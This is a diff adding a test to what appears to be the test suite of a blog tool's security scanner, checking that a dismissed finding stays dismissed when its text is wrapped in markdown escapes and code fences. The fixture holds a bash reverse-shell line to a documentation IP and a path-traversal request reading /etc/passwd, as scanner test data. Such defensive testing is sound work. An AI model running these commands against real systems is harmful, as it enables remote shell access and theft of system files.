@@ -73,6 +73,37 @@ def test_what_the_sources_hold_is_not_told_again(tmp_path: Path) -> None:
     assert (built.code, re.findall(r"TG\d{3}", built.err)) == (0, [])
 
 
+FENCED = """\
+The request `bash -i >& /dev/tcp/203.0.113.7/4444` is bash -i \\>& /dev/tcp/203.0.113.7/4444
+
+## Exploiting the demo parser
+
+### Proof of Concept
+
+```http
+POST /demo/path?name=../../../../etc/passwd HTTP/1.1
+Host: target.example.com
+```
+
+- [a demo tool](https://example.com/tool) - A tool that helps you launch attacks on the demo parser of others
+- [another one](https://example.com/other) - A tool of the same kind
+"""
+"""What reads otherwise on the page in its marks alone: an escape, the fence of code, a link before words."""
+
+
+def test_what_was_dismissed_is_not_told_again_for_the_marks_of_its_markdown(tmp_path: Path) -> None:
+    blog = Blog(tmp_path / "blog").start().signed("liu@example.com")
+    path = blog.post(declaration=NOTHING, body=FENCED)
+    blog.commit()
+    (found,) = blog.check().report["findings"]
+    assert found["rule"] == "TG403"
+    told = blog.threatgate("dismiss", path, found["fingerprint"], "--reason", "ours", "--until", "2099-01-01")
+    assert told.code == 0, told.err
+    blog.commit()
+    built = blog.build("--quiet")
+    assert (built.code, built.shown) == (0, []), built.err
+
+
 def test_a_title_that_a_hook_gives_a_page_must_be_declared(tmp_path: Path) -> None:
     blog = Blog(tmp_path / "blog").start(f"{CONFIG}hooks: [hook.py]\n")
     blog.post(declaration=NOTHING)
